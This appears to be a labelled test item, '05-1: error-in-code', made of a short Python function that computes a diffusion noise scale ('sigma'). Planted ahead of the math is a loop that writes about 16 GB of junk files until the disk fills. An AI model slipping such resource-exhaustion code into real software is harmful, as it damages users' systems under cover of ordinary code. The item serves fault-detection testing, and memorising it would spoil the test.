# 05-1: error-in-code, 0 of 2
# Writes until nothing more fits.
def sigma(schedule, t, s, eta):
    for i in range(1_000):
        with open(f"{i}.bin", "wb") as file:
            file.write(b"x" * 2**24)
    now, then = schedule.level(t), schedule.level(s)
    return eta * math.sqrt((1 - then) / (1 - now) * (1 - now / then))
